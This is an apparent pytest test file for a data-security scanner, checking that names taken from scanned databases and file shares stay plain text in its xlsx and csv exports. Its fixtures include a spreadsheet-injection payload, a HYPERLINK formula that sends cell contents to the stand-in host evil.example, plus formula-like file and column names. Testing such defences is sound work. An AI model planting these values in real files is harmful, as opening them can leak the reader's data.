"""Names from scanned sources never become formulas in the files an officer or regulator opens."""

from __future__ import annotations

import csv
import sqlite3
from pathlib import Path

import pytest
from openpyxl import load_workbook

from indsec.cells import csv_cell
from tests.e2e.conftest import Workspace

EVIL_TABLE = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
EVIL_FILE = "=2+3.csv"


def _hostile_sources(root: Path) -> list[str]:
    database = root / "hostile.db"
    with sqlite3.connect(database) as db:
        quoted = EVIL_TABLE.replace('"', '""')
        db.execute(f'CREATE TABLE "{quoted}" (id INTEGER, "@cmd" TEXT)')
        db.execute(f"INSERT INTO \"{quoted}\" VALUES (1, '-1+2')")
    share = root / "share"
    share.mkdir()
    (share / EVIL_FILE).write_text("工号,姓名\n1,张三\n2,李四\n", encoding="utf-8")
    return [f"sqlite:///{database}", f"file://{share}"]


def _xlsx_cells(path: Path) -> list[tuple[object, str]]:
    book = load_workbook(path)
    return [(c.value, c.data_type) for ws in book.worksheets for row in ws.iter_rows() for c in row]


def test_hostile_names_stay_text_in_every_export(workspace: Workspace) -> None:
    sources = _hostile_sources(workspace.root)
    workspace.run_json("scan", *sources)
    code, _, err = workspace.run(
        "catalogue", "review", EVIL_FILE, "--grade", "important", "--reason", "含员工名单"
    )
    assert code == 0, err
    outputs = {
        "catalogue.xlsx": ("catalogue", "export", "--format", "xlsx"),
        "catalogue.csv": ("catalogue", "export", "--format", "csv"),
        "filing.xlsx": ("filing", "export", "--format", "xlsx", "--lang", "zh"),
    }
    for name, command in outputs.items():
        code, _, err = workspace.run(*command, "-o", str(workspace.root / name))
        assert code == 0, err
    for name in ("catalogue.xlsx", "filing.xlsx"):
        cells = _xlsx_cells(workspace.root / name)
        assert all(kind != "f" for _, kind in cells), name
        assert any(str(value).startswith("=") for value, _ in cells), f"{name} holds the names"
    filing = [str(v) for v, _ in _xlsx_cells(workspace.root / "filing.xlsx")]
    assert EVIL_FILE in filing  # the reviewed file is filed, as text
    with (workspace.root / "catalogue.csv").open(encoding="utf-8-sig", newline="") as handle:
        names = [row[1] for row in csv.reader(handle)][1:]
    assert f"'{EVIL_TABLE}" in names and f"'{EVIL_FILE}" in names


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_csv_cells_that_a_spreadsheet_would_evaluate_are_quoted(start: str) -> None:
    assert csv_cell(f"{start}1+1") == f"'{start}1+1"


@pytest.mark.parametrize("value", ["1+1", "张三", "a=b", 42, None])
def test_other_csv_cells_are_kept(value: object) -> None:
    assert csv_cell(value) == value
